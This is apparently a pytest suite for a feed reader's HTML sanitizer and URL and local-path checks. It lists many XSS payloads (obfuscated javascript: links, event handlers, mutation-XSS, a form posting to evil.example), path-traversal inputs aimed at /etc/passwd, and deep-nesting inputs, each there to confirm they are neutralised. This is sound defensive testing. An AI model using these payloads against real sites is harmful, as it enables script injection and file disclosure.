"""Sanitizing feed HTML, plain text and excerpts, and the URL checks they rely on."""

from __future__ import annotations

import os
import re
from pathlib import Path

import pytest
from bs4 import BeautifulSoup

from chorus.common import sanitize
from chorus.common.sanitize import excerpt_html, plain_text, sanitize_html
from chorus.common.urls import local_feed_path, normalise_link, web_url

SAFE_SCHEMES = {"http", "https", "mailto"}
# Attributes the sanitizer itself adds: rel on links, lazy loading on images.
ADDED = {"a": {"rel"}, "img": {"loading", "decoding"}}
_SCHEME = re.compile(r"^([a-zA-Z][a-zA-Z0-9+.-]*):")


def browser_scheme(url: str) -> str | None:
    """The scheme a browser reads: ASCII tab and newlines removed, C0 and space trimmed first."""
    url = re.sub(r"[\t\n\r]", "", url).lstrip("".join(map(chr, range(0x21))))
    match = _SCHEME.match(url)
    return match.group(1).lower() if match else None


def assert_inert(output: str) -> None:
    """Nothing left in ``output`` can run, load from a foreign scheme, frame, submit or restyle."""
    soup = BeautifulSoup(output, "html.parser")
    for tag in soup.find_all(True):
        assert tag.name in sanitize.TAGS, f"<{tag.name}> survived: {output!r}"
        allowed = (
            sanitize.ATTRIBUTES.get(tag.name, set())
            | sanitize.ATTRIBUTES["*"]
            | ADDED.get(tag.name, set())
        )
        for name, value in tag.attrs.items():
            assert not name.lower().startswith("on"), f"{name}= survived: {output!r}"
            assert name in allowed, f"{name}= on <{tag.name}> survived: {output!r}"
            if name in {"href", "src"}:
                assert browser_scheme(value) in {None, *SAFE_SCHEMES}, output


# (hostile snippet, text in it that is harmless and must survive, or None)
HOSTILE = {
    "script": ("<script>alert(1)</script>", None),
    "script-uppercase": ("<SCRIPT SRC=https://evil.example/x.js></SCRIPT>", None),
    "script-split-name": ("<scr<script>ipt>alert(1)</script>", None),
    "img-onerror": ('<img src="https://example.org/a.png" onerror="alert(1)">', None),
    "p-onclick": ('<p onclick="alert(1)" ONMOUSEOVER="alert(2)">click text</p>', "click text"),
    "details-ontoggle": (
        "<details open ontoggle=alert(1)><summary>Sum</summary>Det</details>",
        "Det",
    ),
    "href-javascript": ('<a href="javascript:alert(1)">js link</a>', "js link"),
    "href-javascript-uppercase": ('<a href="JAVASCRIPT:alert(1)">upper</a>', "upper"),
    "href-javascript-tab-entity": ('<a href="java&#x09;script:alert(1)">tab</a>', "tab"),
    "href-javascript-newline-entity": ('<a href="jav&#x0A;ascript:alert(1)">nl</a>', "nl"),
    "href-javascript-cr-entity": ('<a href="jav&#13;ascript:alert(1)">cr</a>', "cr"),
    "href-javascript-raw-tab": ('<a href="java\tscript:alert(1)">raw tab</a>', "raw tab"),
    "href-javascript-leading-spaces": ('<a href="   javascript:alert(1)">spaces</a>', "spaces"),
    "href-javascript-leading-controls": (
        '<a href="&#x01;&#x1f; javascript:alert(1)">ctl</a>',
        "ctl",
    ),
    "href-javascript-leading-nul": ('<a href="\x00javascript:alert(1)">nul</a>', "nul"),
    "href-javascript-colon-entity": ('<a href="javascript&colon;alert(1)">colon</a>', "colon"),
    "href-javascript-numeric-entity": ('<a href="&#106;avascript:alert(1)">num</a>', "num"),
    "href-vbscript": ('<a href="vbscript:msgbox(1)">vb</a>', "vb"),
    "href-data": ('<a href="data:text/html;base64,PHNjcmlwdD4=">data</a>', "data"),
    "img-src-javascript": ('<img src="javascript:alert(1)" alt="pic">', None),
    "img-src-data-svg": ('<img src="data:image/svg+xml;base64,PHN2Zz4=">', None),
    "img-src-unknown-scheme": ("<img src=x:alert(1)>", None),
    "iframe": ('<iframe src="https://evil.example/">frame text</iframe>', None),
    "iframe-srcdoc": ('<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>', None),
    "frameset": ('<frameset><frame src="https://evil.example/"></frameset>', None),
    "form-input-button": (
        '<form action="https://evil.example/steal"><input name="pw" value="v">'
        '<button formaction="javascript:alert(1)">Press</button></form>',
        None,  # a form goes with its text: "Press" without its button is debris (issue 17)
    ),
    "textarea-select": ("<textarea>t</textarea><select><option>o</option></select>", None),
    "object": (
        '<object data="https://evil.example/x.swf"><param name="a" value="b"></object>',
        None,
    ),
    "embed": (
        '<embed src="https://evil.example/x.swf" type="application/x-shockwave-flash">',
        None,
    ),
    "svg-onload-nested-script": (
        '<svg onload="alert(1)"><script>alert(2)</script>'
        '<a xlink:href="javascript:alert(3)"><text>t</text></a></svg>',
        None,
    ),
    "svg-foreign-object": (
        '<svg><foreignObject><img src=x onerror="alert(1)"></foreignObject></svg>',
        None,
    ),
    "math": (
        '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">m'
        "</maction></math>",
        None,
    ),
    "style-element": ('<style>body{background:url("https://evil.example/x")}</style>', None),
    "style-attribute": (
        '<p style="position:fixed;background:url(javascript:alert(1))">styled</p>',
        "styled",
    ),
    "meta-refresh": ('<meta http-equiv="refresh" content="0;url=javascript:alert(1)">', None),
    "base-href": ('<base href="https://evil.example/">', None),
    "link-stylesheet": ('<link rel="stylesheet" href="https://evil.example/s.css">', None),
    "img-srcset": (
        '<img src="https://example.org/a.png" srcset="javascript:alert(1) 1x, '
        'https://evil.example/b.png 2x">',
        None,
    ),
    "picture-source-srcset": (
        '<picture><source srcset="https://evil.example/a.png">'
        '<img src="https://example.org/b.png"></picture>',
        None,
    ),
    "video-poster": (
        '<video src="https://evil.example/v.mp4" poster="https://evil.example/p.png">'
        "video text</video>",
        "video text",
    ),
    "table-background": (
        '<table background="javascript:alert(1)"><tr><td>cell</td></tr></table>',
        "cell",
    ),
    "noscript-mxss": (
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
        None,
    ),
    "template": ("<template><script>alert(1)</script></template>", None),
    "comment-hiding-markup": ("<!--<img src=x onerror=alert(1)>-->", None),
    "a-target-and-rel-opener": (
        '<a href="https://example.org/" target="_blank" rel="opener">t</a>',
        None,
    ),
    "id-class-name-clobbering": (
        '<img name="cookie" id="x" class="y" src="https://example.org/a">',
        None,
    ),
}


# Cases where the words may remain, inert: the parser turns NUL into U+FFFD, leaving
# "\ufffdjavascript:..." as a relative URL; the split tag leaves "ipt>alert(1)" as escaped text.
WORDS_MAY_REMAIN = {"href-javascript-leading-nul", "script-split-name"}
# Players cannot be kept, but each leaves an inert link to what it showed (issue 19).
EMBEDS = {"iframe": "https://evil.example/", "object": "https://evil.example/x.swf",
          "embed": "https://evil.example/x.swf"}  # fmt: skip


@pytest.mark.parametrize("name", list(HOSTILE))
@pytest.mark.parametrize("base", [None, "https://example.org/posts/one/"])
def test_hostile_html_is_made_inert(name: str, base: str | None) -> None:
    snippet, harmless = HOSTILE[name]
    output = sanitize_html(f"<p>Before the trap.</p>{snippet}<p>After the trap.</p>", base)
    assert_inert(output)
    text = BeautifulSoup(output, "html.parser").get_text()
    assert "Before the trap." in text
    assert "After the trap." in text
    if harmless:
        assert harmless in text
    if name in EMBEDS:
        (link,) = BeautifulSoup(output, "html.parser").find_all("a")
        assert link["href"] == EMBEDS[name]
        assert link.get_text() == "Embedded content from evil.example"
        output = output.replace(str(link), "")
    lowered = output.lower()
    needles = ["<script", "evil.example", "expression("]
    if name not in WORDS_MAY_REMAIN:
        needles += ["javascript", "vbscript", "alert("]
    for needle in needles:
        assert needle not in lowered, f"{needle!r} in {output!r}"


# embed and frame are void, and a frameset inside a body is ignored: they have no content here.
@pytest.mark.parametrize(
    "element", sorted(sanitize.CONTENT_DROPPED - {"embed", "frame", "frameset"})
)
def test_code_elements_lose_their_content(element: str) -> None:
    output = sanitize_html(f"<p>Kept</p><{element}>SECRET</{element}>")
    assert output == "<p>Kept</p>"


def test_allowed_markup_survives() -> None:
    fragment = (
        '<h2 lang="en">Title</h2><p>Some <strong>bold</strong>, <em>em</em> and <code>x</code>.</p>'
        '<ol start="3"><li>three</li></ol><table><tr><th scope="col">h</th></tr>'
        '<tr><td colspan="2">d</td></tr></table><a href="mailto:ada@example.org">mail</a>'
        '<time datetime="2026-01-02">Jan 2</time><abbr title="HyperText">HTML</abbr>'
    )
    soup = BeautifulSoup(sanitize_html(fragment), "html.parser")
    assert soup.h2["lang"] == "en"
    assert soup.ol["start"] == "3"
    assert soup.th["scope"] == "col"
    assert soup.td["colspan"] == "2"
    assert soup.a["href"] == "mailto:ada@example.org"
    assert soup.a["rel"] == ["noopener", "noreferrer"]
    assert soup.time["datetime"] == "2026-01-02"
    assert soup.abbr["title"] == "HyperText"
    assert [tag.name for tag in soup.find_all(["strong", "em", "code"])] == ["strong", "em", "code"]


def test_images_are_lazy_and_links_get_noopener() -> None:
    soup = BeautifulSoup(
        sanitize_html(
            '<img src="https://example.org/a.png" alt="A"><a href="https://x.example/">x</a>'
        ),
        "html.parser",
    )
    assert (soup.img["loading"], soup.img["decoding"], soup.img["alt"]) == ("lazy", "async", "A")
    assert soup.a["rel"] == ["noopener", "noreferrer"]


def test_comments_are_stripped() -> None:
    assert sanitize_html("<p>a<!-- note --></p>") == "<p>a</p>"


@pytest.mark.parametrize("empty", ["", None])
def test_empty_fragment(empty: str | None) -> None:
    assert sanitize_html(empty) == ""  # type: ignore[arg-type]


# Relative URLs --------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("fragment", "base", "attribute", "expected"),
    [
        ('<a href="b/c">x</a>', "https://example.org/a/post", "href", "https://example.org/a/b/c"),
        ('<img src="../i.png">', "https://example.org/a/b/", "src", "https://example.org/a/i.png"),
        (
            '<a href="/root">x</a>',
            "https://example.org/deep/er/",
            "href",
            "https://example.org/root",
        ),
        (
            '<a href="?page=2">x</a>',
            "https://example.org/list",
            "href",
            "https://example.org/list?page=2",
        ),
        ('<a href="#notes">x</a>', "https://example.org/p", "href", "https://example.org/p#notes"),
        (
            '<img src="//cdn.example/x.png">',
            "https://example.org/",
            "src",
            "https://cdn.example/x.png",
        ),
        (
            '<img src="//cdn.example/x.png">',
            "http://example.org/",
            "src",
            "http://cdn.example/x.png",
        ),
        (
            '<a href="https://other.example/abs">x</a>',
            "https://example.org/",
            "href",
            "https://other.example/abs",
        ),
        (
            '<a href="mailto:ada@example.org">x</a>',
            "https://example.org/",
            "href",
            "mailto:ada@example.org",
        ),
        (
            '<a href="a%20b.html">x</a>',
            "https://example.org/d/",
            "href",
            "https://example.org/d/a%20b.html",
        ),
        (
            '<a href="\\\\evil.example/x">x</a>',
            "https://example.org/",
            "href",
            "https://evil.example/x",
        ),  # a backslash is a slash to a browser
    ],
)
def test_relative_urls_are_rewritten_against_the_base(
    fragment: str, base: str, attribute: str, expected: str
) -> None:
    soup = BeautifulSoup(sanitize_html(fragment, base), "html.parser")
    assert soup.find(True)[attribute] == expected


@pytest.mark.parametrize(
    ("fragment", "expected"),
    [
        ('<a href="b/c">x</a>', "b/c"),
        ('<img src="//cdn.example/x.png">', "//cdn.example/x.png"),
        ('<a href="/root">x</a>', "/root"),
    ],
)
@pytest.mark.parametrize("base", [None, "", "javascript:alert(1)//", "local:feed.xml", "/relative"])
def test_without_a_usable_base_relative_urls_pass_through(
    fragment: str, expected: str, base: str | None
) -> None:
    soup = BeautifulSoup(sanitize_html(fragment, base), "html.parser")
    assert soup.find(True).get("href", soup.find(True).get("src")) == expected


# plain_text --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("fragment", "expected"),
    [
        ("", ""),
        ("Fish &amp; Chips", "Fish & Chips"),
        ("&lt;b&gt;not a tag&lt;/b&gt;", "<b>not a tag</b>"),
        ("caf&eacute; &#8212; &#x263A;", "caf\u00e9 \u2014 \u263a"),
        ("<p>Hello <b>bold <i>nested</i></b> world</p>", "Hello bold nested world"),
        ("<script>alert(1)</script>Visible", "Visible"),
        ("<style>p { color: red }</style>Text", "Text"),
        ("<svg><title>svg title</title></svg>After", "After"),
        ("  a \n\t b  \r\n c ", "a b c"),
        ("a&nbsp;&nbsp;b", "a b"),
        ("<p>  spaced\n\n  out  </p>", "spaced out"),
        ("1 < 2 and 3 > 2", "1 < 2 and 3 > 2"),
        ("<p>AT&amp;T</p>", "AT&T"),
        ("&amp;lt;", "&lt;"),  # decoded once, not twice
        ("<b>&amp;lt;</b>", "&lt;"),
        ("<!-- hidden -->shown", "shown"),
    ],
)
def test_plain_text(fragment: str, expected: str) -> None:
    assert plain_text(fragment) == expected


@pytest.mark.parametrize(
    ("fragment", "expected"),
    [
        ("<p>First.</p><p>Second.</p>", "First. Second."),
        ("line<br>break", "line break"),
        ("<ul><li>one</li><li>two</li></ul>", "one two"),
    ],
)
def test_plain_text_separates_blocks(fragment: str, expected: str) -> None:
    assert plain_text(fragment) == expected


# excerpt_html ------------------------------------------------------------------------------

SENTENCE = "The quick brown fox jumps over the lazy dog, then naps; everyone agrees it earned it."


def excerpt_text(result: str) -> str:
    return BeautifulSoup(result, "html.parser").get_text()


def test_excerpt_short_text_is_kept_whole() -> None:
    assert excerpt_html("<p>Hello <b>world</b></p>", 100) == "<p>Hello world</p>"
    assert excerpt_html("exactly ten", 11) == "<p>exactly ten</p>"


@pytest.mark.parametrize("limit", [12, 20, 24, 33, 50])
def test_excerpt_is_cut_at_a_word_with_an_ellipsis(limit: int) -> None:
    text = excerpt_text(excerpt_html(SENTENCE, limit))
    assert text.endswith("\u2026")
    kept = text.removesuffix("\u2026")
    assert len(text) <= limit
    assert SENTENCE.startswith(kept)
    following = SENTENCE[len(kept)]
    assert following in " ,.;:-", f"cut inside a word: {text!r}"
    assert not kept.endswith((" ", ",", ";"))


def test_excerpt_strips_punctuation_before_the_ellipsis() -> None:
    assert excerpt_html("Hello, world and more", 7) == "<p>Hello\u2026</p>"


@pytest.mark.parametrize(
    ("text", "limit"),
    [
        pytest.param("Supercalifragilistic", 5, id="long-first-word"),
        pytest.param("hello world foo", 11, id="space-right-after-limit"),
        pytest.param(SENTENCE, 25, id="sentence-25"),
    ],
)
def test_excerpt_never_exceeds_limit_including_the_ellipsis(text: str, limit: int) -> None:
    assert len(excerpt_text(excerpt_html(text, limit))) <= limit


@pytest.mark.parametrize(
    ("fragment", "limit", "expected"),
    [
        ("a < b & c", 100, "<p>a &lt; b &amp; c</p>"),
        (
            "&lt;script&gt;alert(1)&lt;/script&gt;",
            100,
            "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>",
        ),
        ("<p>Tom &amp; Jerry &lt;3</p>", 100, "<p>Tom &amp; Jerry &lt;3</p>"),
        ("AT&amp;T AT&amp;T AT&amp;T AT&amp;T", 10, "<p>AT&amp;T AT&amp;T\u2026</p>"),
    ],
)
def test_excerpt_escapes_text(fragment: str, limit: int, expected: str) -> None:
    result = excerpt_html(fragment, limit)
    assert result == expected
    assert [tag.name for tag in BeautifulSoup(result, "html.parser").find_all(True)] == ["p"]


@pytest.mark.parametrize("empty", ["", "   ", "<p> </p>", "<script>x</script>", "<!-- c -->"])
def test_excerpt_of_nothing_is_empty(empty: str) -> None:
    assert excerpt_html(empty, 50) == ""


# urls.web_url -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("url", "base", "expected"),
    [
        ("https://example.org/a", None, "https://example.org/a"),
        ("HTTPS://example.org/a", None, "https://example.org/a"),
        ("http://example.org:8080/a?b=1#c", None, "http://example.org:8080/a?b=1#c"),
        ("/a", "https://example.org/x/y", "https://example.org/a"),
        ("b", "https://example.org/x/y", "https://example.org/x/b"),
        ("../b", "https://example.org/x/y/z", "https://example.org/x/b"),
        ("//cdn.example/x", "https://example.org/", "https://cdn.example/x"),
        ("//cdn.example/x", "http://example.org/", "http://cdn.example/x"),
        ("https://other.example/", "https://example.org/", "https://other.example/"),
        ("  https://example.org/a b  ", None, "https://example.org/a%20b"),
        ("https://exa\tmple.org/\n", None, "https://example.org/"),
        ("\x01\x02 https://example.org/", None, "https://example.org/"),
    ],
)
def test_web_url_accepts(url: str, base: str | None, expected: str) -> None:
    assert web_url(url, base) == expected


@pytest.mark.parametrize(
    ("url", "base"),
    [
        ("javascript:alert(1)", None),
        ("javascript:alert(1)", "https://example.org/"),
        ("JavaScript:alert(1)", None),
        ("java\tscript:alert(1)", "https://example.org/"),
        ("jav\nascript:alert(1)", "https://example.org/"),
        ("  javascript:alert(1)", "https://example.org/"),
        ("\x01javascript:alert(1)", "https://example.org/"),
        ("vbscript:msgbox(1)", None),
        ("data:text/html,hi", "https://example.org/"),
        ("mailto:ada@example.org", None),
        ("ftp://example.org/file", None),
        ("file:///etc/passwd", None),
        ("local:feed.xml", None),
        ("", "https://example.org/"),
        ("   ", "https://example.org/"),
        ("relative/only", None),
        ("https://", None),
        ("https:///path-without-host", None),
        ("http://example.org:99999/", None),
        ("http://example.org:port/", None),
        ("http://[::1/", None),
        ("https://exa\x00mple.org/", None),
        ("https://example.org/\x7f", None),
        ("x", "javascript:alert(1)"),
    ],
)
def test_web_url_refuses(url: str, base: str | None) -> None:
    assert web_url(url, base) is None


@pytest.mark.parametrize("value", [None, 42, b"https://example.org/", ["https://example.org/"]])
def test_web_url_refuses_non_strings(value: object) -> None:
    assert web_url(value) is None  # type: ignore[arg-type]


# urls.normalise_link -----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("url", "expected"),
    [
        ("https://example.org/post", "https://example.org/post"),
        ("http://www.Example.ORG/post/", "https://example.org/post"),
        ("https://example.org/post?utm_source=x&UTM_Medium=y#top", "https://example.org/post"),
        ("https://example.org/p?id=2&utm_campaign=z&x=", "https://example.org/p?id=2&x="),
        ("https://example.org", "https://example.org/"),
        ("https://example.org:443/a", "https://example.org/a"),
        ("http://example.org:80/a", "https://example.org/a"),
        ("https://example.org:8443/a", "https://example.org:8443/a"),
        ("https://user:pw@example.org/a", "https://example.org/a"),
        ("https://example.org/Case/Kept", "https://example.org/Case/Kept"),
    ],
)
def test_normalise_link(url: str, expected: str) -> None:
    assert normalise_link(url) == expected


@pytest.mark.parametrize(
    ("one", "other"),
    [
        ("https://example.org/a", "https://example.org/b"),
        ("https://example.org/p?id=1", "https://example.org/p?id=2"),
        ("https://example.org/a", "https://example.com/a"),
        ("https://blog.example.org/a", "https://example.org/a"),
        ("https://example.org:8443/a", "https://example.org:9443/a"),
        ("https://example.org/Post", "https://example.org/post"),
    ],
)
def test_normalise_link_keeps_different_posts_apart(one: str, other: str) -> None:
    assert normalise_link(one) != normalise_link(other)


def test_normalise_link_keeps_ipv6_brackets() -> None:
    assert normalise_link("http://[2001:db8::1]:8080/x") == "https://[2001:db8::1]:8080/x"
    assert normalise_link("http://[2001:db8::1:8080]/x") == "https://[2001:db8::1:8080]/x"


# urls.local_feed_path ----------------------------------------------------------------------


@pytest.fixture
def local_dir(tmp_path: Path) -> Path:
    """content/local-feeds as config.py makes it: resolved, with a sibling outside it."""
    root = tmp_path.resolve()
    feeds = root / "local-feeds"
    (feeds / "sub").mkdir(parents=True)
    (feeds / "feed.xml").write_text("<rss/>", encoding="utf-8")
    (feeds / "sub" / "nested.xml").write_text("<rss/>", encoding="utf-8")
    outside = root / "outside"
    outside.mkdir()
    (outside / "secret.xml").write_text("secret", encoding="utf-8")
    (root / "local-feeds-evil").mkdir()
    return feeds


@pytest.mark.parametrize(
    ("url", "relative"),
    [
        ("local:feed.xml", "feed.xml"),
        ("local:sub/nested.xml", "sub/nested.xml"),
        ("local:sub/../feed.xml", "feed.xml"),
        ("local:./feed.xml", "feed.xml"),
        ("local:not-yet-there.xml", "not-yet-there.xml"),
    ],
)
def test_local_feed_path_inside(local_dir: Path, url: str, relative: str) -> None:
    assert local_feed_path(url, local_dir) == local_dir / relative


@pytest.mark.parametrize(
    "url",
    [
        "local:",
        "local:../outside/secret.xml",
        "local:sub/../../outside/secret.xml",
        "local:../local-feeds-evil/x.xml",  # shares the directory's name as a prefix
        "local:/etc/passwd",
        "local:\\etc\\passwd",
        "local:feed.xml\x00.png",
        "local:" + "../" * 20 + "etc/passwd",
    ],
)
def test_local_feed_path_refuses_to_leave(local_dir: Path, url: str) -> None:
    with pytest.raises(ValueError):
        local_feed_path(url, local_dir)


def test_local_feed_path_refuses_absolute_path_of_a_file_inside(local_dir: Path) -> None:
    with pytest.raises(ValueError):
        local_feed_path(f"local:{local_dir / 'feed.xml'}", local_dir)


def test_local_feed_path_refuses_symlink_pointing_outside(local_dir: Path) -> None:
    (local_dir / "link.xml").symlink_to(local_dir.parent / "outside" / "secret.xml")
    (local_dir / "linked-dir").symlink_to(local_dir.parent / "outside", target_is_directory=True)
    (local_dir / "abs-passwd.xml").symlink_to("/etc/passwd")
    for url in ("local:link.xml", "local:linked-dir/secret.xml", "local:abs-passwd.xml"):
        with pytest.raises(ValueError, match="leaves"):
            local_feed_path(url, local_dir)


def test_local_feed_path_follows_symlink_that_stays_inside(local_dir: Path) -> None:
    (local_dir / "alias.xml").symlink_to(os.path.join("sub", "nested.xml"))
    assert local_feed_path("local:alias.xml", local_dir) == local_dir / "sub" / "nested.xml"


def test_local_feed_path_needs_the_setting() -> None:
    with pytest.raises(ValueError, match="CHORUS_LOCAL_FEEDS_DIR"):
        local_feed_path("local:feed.xml", None)


def test_output_is_identical_across_processes():
    """Post files are committed to git: the same input must give the same bytes every run."""
    import subprocess
    import sys

    snippet = (
        '<p lang="en" dir="ltr"><img src="a.png" alt="x" width="3" height="4" title="t">'
        '<a href="b/" title="t" hreflang="en">b</a><td colspan="2" rowspan="3">c</td></p>'
    )
    program = (
        "import sys; from chorus.common.sanitize import sanitize_html; "
        f"sys.stdout.write(sanitize_html({snippet!r}, 'https://example.org/x/'))"
    )
    outputs = {
        subprocess.run(
            [sys.executable, "-c", program], capture_output=True, text=True, check=True
        ).stdout
        for _ in range(6)
    }
    assert len(outputs) == 1, outputs
    assert 'loading="lazy"' in outputs.pop()


@pytest.mark.parametrize(
    ("embed", "href", "text"),
    [
        (
            '<iframe src="https://www.youtube.com/embed/dQw4w9WgXcQ?rel=0" title="A &amp; B">'
            "</iframe>",
            "https://www.youtube.com/watch?v=dQw4w9WgXcQ",
            "Embedded video: A & B (youtube.com)",
        ),
        (
            "<iframe src='//player.vimeo.com/video/76979871' width=640></iframe>",
            "https://vimeo.com/76979871",
            "Embedded video from vimeo.com",
        ),
        (
            "<iframe src=/widgets/map.html></IFRAME >",
            "https://example.org/widgets/map.html",
            "Embedded content from example.org",
        ),
    ],
)
def test_an_embedded_player_leaves_a_link_to_what_it_showed(embed, href, text) -> None:
    output = sanitize_html(f"<p>Watch:</p>{embed}<p>After.</p>", "https://example.org/post/")
    assert "<iframe" not in output
    (link,) = BeautifulSoup(output, "html.parser").find_all("a")
    assert (link["href"], link.get_text()) == (href, text)
    assert "After." in output


def test_an_image_inside_a_link_never_makes_a_link_inside_a_link() -> None:
    fragment = sanitize_html(
        '<p><a href="https://example.org/big.jpg"><img src="https://example.org/small.jpg" '
        'alt="Comic"></a> and <img src="https://example.org/free.png" alt="Free"></p>'
    )
    page = BeautifulSoup(sanitize.link_remote_images(fragment), "html.parser")
    assert all(link.find("a") is None for link in page.find_all("a"))
    assert [a.get_text() for a in page.find_all("a")] == ["Image: Comic", "Image: Free"]
    assert page.find("a", href="https://example.org/free.png")


# Debris: what a post would show once its dangerous parts are gone (issue 17). Shaped like what
# real blogs send: a WordPress "Subscribe" form, a theme's share buttons, a tracking pixel
# whose src was a data: URL, a "Download" link to a javascript: handler, and the '">' that
# an attribute broken by a stray quote leaves behind.
DEBRIS = {
    "subscribe-form": (
        '<p>Thanks for reading.</p><form class="wp-block-jetpack-subscriptions" method="post">'
        '<p><label for="email">Email</label><input type="email" id="email" '
        'placeholder="you@example.org"></p><p><button type="submit">Subscribe</button></p></form>',
        "<p>Thanks for reading.</p>",
    ),
    "share-buttons": (
        '<p>Share this:</p><div class="sharedaddy"><button onclick="share()">Share on Mastodon'
        "</button> <button>Copy link</button></div><p>More soon.</p>",
        "<p>Share this:</p><p>More soon.</p>",
    ),
    "select-and-textarea": (
        "<p>Pick a size:</p><select><option>Small</option><option>Large</option></select>"
        "<textarea>Leave a comment</textarea>",
        "<p>Pick a size:</p>",
    ),
    "image-without-src": (
        '<p><img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" alt="" width="1" '
        'height="1"></p><p>Text.</p>',
        "<p>Text.</p>",
    ),
    "link-without-href": (
        '<p>Get the <a href="javascript:download()">float calculator</a> here.</p>',
        "<p>Get the float calculator here.</p>",
    ),
    "link-around-an-image-without-href": (
        '<p><a href="vbscript:x"><img src="https://example.org/a.png" alt="A"></a></p>',
        '<p><img loading="lazy" decoding="async" src="https://example.org/a.png" alt="A"></p>',
    ),
    "stray-quote-and-bracket": (
        '<p><img src="https://example.org/a.png" alt="A" title="x"">"></p><p>After.</p>',
        '<p><img loading="lazy" decoding="async" src="https://example.org/a.png" alt="A" '
        'title="x"></p><p>After.</p>',
    ),
    "mutation-xss-leftover": (
        "<noscript><p title=\"</noscript><img src=x onerror=alert('mxss')>\"></p></noscript>"
        "<p>After.</p>",
        '<img loading="lazy" decoding="async" src="https://example.org/x"><p>After.</p>',
    ),
    "empty-paragraphs": (
        "<p>One.</p><p> </p><p><br></p><div><p>\n</p></div><p>Two.</p>",
        "<p>One.</p><p>Two.</p>",
    ),
}


@pytest.mark.parametrize("name", list(DEBRIS))
def test_what_is_meaningless_once_stripped_is_removed(name: str) -> None:
    fragment, expected = DEBRIS[name]
    output = sanitize_html(fragment, "https://example.org/")
    assert_inert(output)
    assert output == expected


@pytest.mark.parametrize(
    "fragment",
    [
        '<pre><code>&lt;a href="x"&gt;</code><span>"&gt;</span></pre>',  # code says '">'
        '<p>Type <code>"&gt;</code> to close it.</p>',
        '<p><a href="https://example.org/" title="a &gt; b">kept</a></p>',
        '<p><img src="https://example.org/a.png" alt="x &gt; y"></p>',
        "<table><tr><td></td><td>1</td></tr></table>",  # an empty cell holds its column
    ],
)
def test_tidying_keeps_what_means_something(fragment: str) -> None:
    output = sanitize_html(fragment)
    assert (
        BeautifulSoup(output, "html.parser").get_text()
        == BeautifulSoup(fragment, "html.parser").get_text()
    )
    soup = BeautifulSoup(output, "html.parser")
    assert len(soup.find_all(["a", "img", "td"])) == len(
        BeautifulSoup(fragment, "html.parser").find_all(["a", "img", "td"])
    )


# Deep nesting (audit r2): html5ever and the empty-block tidying each cost a pass over the open
# elements per level, N^2 for N levels; these would take minutes, and now take well under one.
DEEP = 100_000


def test_deeply_nested_empty_blocks_leave_only_the_text_around_them() -> None:
    fragment = "<p>Real text.</p>" + "<div>" * DEEP + "</div>" * DEEP + "<p>After.</p>"
    assert sanitize_html(fragment) == "<p>Real text.</p><p>After.</p>"
    assert plain_text(fragment) == "Real text. After."


def test_deeply_nested_blocks_keep_their_word_within_the_depth_bound() -> None:
    output = sanitize_html("<blockquote>" * DEEP + "word" + "</blockquote>" * DEEP + "<p>x</p>")
    soup = BeautifulSoup(output, "html.parser")
    assert soup.get_text() == "wordx"
    assert len(soup.find_all("blockquote")) == sanitize.MAX_DEPTH
    assert soup.find("p").parent is soup  # what follows the nest is not inside it


@pytest.mark.parametrize(
    "fragment",
    [
        "<ul><li>" * DEEP + "item",  # unclosed, nested lists
        "<table><tr><td>" * (DEEP // 4) + "cell",
        "".join(f'<b lang="{i % 997}">' for i in range(DEEP)) + "bold",
        # HTML inside SVG, where "<div/>" opens a <div> as anywhere in HTML
        "<p>before</p><svg><foreignObject>" + "<div/>" * DEEP + "dropped with the svg",
    ],
)
def test_other_deep_nesting_is_bounded_too(fragment: str) -> None:
    output = sanitize_html(fragment)
    assert_inert(output)
    assert output.count("<") <= 4 * sanitize.MAX_DEPTH
    text = BeautifulSoup(output, "html.parser").get_text()
    assert text.endswith(("item", "cell", "bold", "before"))


def test_moderately_nested_content_is_unchanged() -> None:
    inner = '<p>Deep <em>text</em> <a href="https://example.org/">link</a>.</p><p> </p><div></div>'
    fragment = "<div><blockquote>" * 25 + inner + "</blockquote></div>" * 25
    expected = (
        "<div><blockquote>"
        * 25
        + '<p>Deep <em>text</em> <a href="https://example.org/" rel="noopener noreferrer">link</a>.'
        "</p>" + "</blockquote></div>" * 25
    )
    assert sanitize.sanitize_html(fragment) == expected
    assert sanitize._bound_depth(fragment) is fragment


@pytest.mark.parametrize(
    "fragment",
    [
        "<p>one<p>two<p>three" * 200,  # unclosed paragraphs close each other
        "<ul>" + "<li>item" * 600 + "</ul>",
        "<dl>" + "<dt>term<dd>definition" * 300 + "</dl>",
        "<table>" + "<tr><td>a<td>b" * 300 + "</table>",
        "<select>" + "<option>o" * 600 + "</select><p>after</p>",
        "<p><b>bold</p>" * 30 + "<p>plain</p>" * 300,
        "<svg>" + '<path d="M0 0"/>' * 600 + "</svg><p>after</p>",
        "<h2>a<h3>b" * 300,
    ],
)
def test_long_flat_sloppy_markup_is_not_mistaken_for_deep(fragment: str) -> None:
    assert sanitize._bound_depth(fragment) is fragment


@pytest.mark.parametrize(
    "part",
    [
        "<div> <p>\n</p><br> <span></span></div>",
        '<div lang="en"><p> </p>x</div><li><br></li>',
        "</div><p> </p></div>",  # a part after a <pre>: closes what it did not open
        "<p><em></em></p><blockquote><figure> </figure></blockquote>",
    ],
)
def test_empty_blocks_go_in_one_pass_as_in_one_pass_per_layer(part: str) -> None:
    expected, emptied = part, 1
    while emptied:
        expected, emptied = sanitize._EMPTY_BLOCK.subn("", expected)
    assert sanitize._drop_empty_blocks(part) == expected


def test_formatting_left_open_in_every_paragraph_cannot_multiply_the_text():
    """An HTML parser reopens open formatting tags in each new paragraph; with attributes that
    differ, nothing limits how many: the output is bounded by the input, and the text stays."""
    fragment = "".join(f'<p><b lang="x{number}">word{number}</p>' for number in range(8_000))
    cleaned = sanitize_html(fragment)
    assert len(cleaned) < 2 * len(fragment)
    assert "word0" in cleaned and "word7999" in cleaned
    # A post's few formatting tags keep what the policy allows of them.
    assert (
        sanitize_html('<p><i lang="la">carpe</i> diem</p>') == '<p><i lang="la">carpe</i> diem</p>'
    )
